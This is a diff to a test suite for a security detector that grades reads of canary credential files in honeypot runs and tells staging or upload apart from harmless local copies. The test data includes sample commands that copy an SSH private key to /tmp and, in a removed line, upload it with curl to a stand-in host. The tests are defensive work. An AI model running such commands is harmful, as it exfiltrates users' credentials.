@@ -64,12 +64,14 @@ describe('findViolations', () => {
     expect(severity([event('file-read', '~/.aws/credentials', { canary: true })])).toEqual(['medium']);
     expect(severity([event('file-read', '~/.aws/credentials', { canary: true }), event('connect', 'collector.invalid:443')])).toEqual(['critical']);
     expect(severity([event('file-read', '~/.aws/credentials', { canary: true }), event('connect', 'collector.invalid:443', { command: 'another command' })])).toEqual(['medium']);
-    expect(severity([event('file-read', '~/.ssh/id_ed25519', { canary: true }), event('file-write', '/tmp/.k'), event('dns', 'drop.invalid', { command: 'a later command' })])).toEqual(['critical']);
-    // A copy in a run where nothing left the machine at all has staged nothing for anyone (an incident collector's local evidence folder).
-    expect(severity([event('file-read', '~/.bash_history', { canary: true }), event('file-write', '~/ir-evidence/history/.bash_history')])).toEqual(['medium']);
+    expect(severity([event('file-read', '~/.ssh/id_ed25519', { canary: true }), event('file-write', '/tmp/.k')])).toEqual(['critical']);
+    // A copy in a folder of the user's, in a run where nothing left the machine at all, has staged nothing for anyone (an incident
+    // collector's evidence folder); the same copy in a run where something else left the machine is staged for it.
+    expect(severity([event('file-read', '~/.bash_history', { canary: true }), event('file-write', '~/ir-evidence/history/bash_history')])).toEqual(['medium']);
+    expect(severity([event('file-read', '~/.bash_history', { canary: true }), event('file-write', '~/ir-evidence/history/bash_history'), event('dns', 'drop.invalid', { command: 'a later command' })])).toEqual(['critical']);
     expect(severity([event('file-read', '~/.ssh/id_ed25519', { canary: true }), event('file-write', '/dev/null')])).toEqual(['medium']);
-    expect(findViolations([event('file-read', '~/.ssh/id_ed25519', { canary: true, command: 'cat ~/.ssh/id_ed25519 > /tmp/.k 2>/dev/null' }), event('connect', 'drop.invalid:443', { command: 'curl -T /tmp/.k https://drop.invalid/' })], noCapabilities(), honeypot).filter((violation) => violation.ruleId === 'dryrun-credential-read').map((violation) => violation.severity)).toEqual(['critical']);
-    expect(findViolations([event('file-read', '~/.ssh/id_ed25519', { canary: true, command: 'cat ~/.ssh/id_ed25519 > /tmp/.k 2>/dev/null' })], noCapabilities(), honeypot).map((violation) => violation.severity)).toEqual(['medium']);
+    expect(findViolations([event('file-read', '~/.ssh/id_ed25519', { canary: true, command: 'cat ~/.ssh/id_ed25519 > /tmp/.k 2>/dev/null' })], noCapabilities(), honeypot).map((violation) => violation.severity)).toEqual(['critical']);
+    expect(findViolations([event('file-read', '~/.bash_history', { canary: true, command: 'cp ~/.bash_history ~/ir-evidence/bash_history' })], noCapabilities(), honeypot).map((violation) => violation.severity)).toEqual(['medium']);
     expect(findViolations([event('file-read', '~/.netrc', { canary: true, command: 'cat ~/.netrc > /dev/null 2>&1' })], noCapabilities(), honeypot).map((violation) => violation.severity)).toEqual(['medium']);
     expect(findViolations([event('file-read', './.env', { canary: true, command: 'python3 scripts/scan_secrets.py . --json > leaks.json' })], noCapabilities(), honeypot).map((violation) => violation.severity)).toEqual(['medium']);
   });
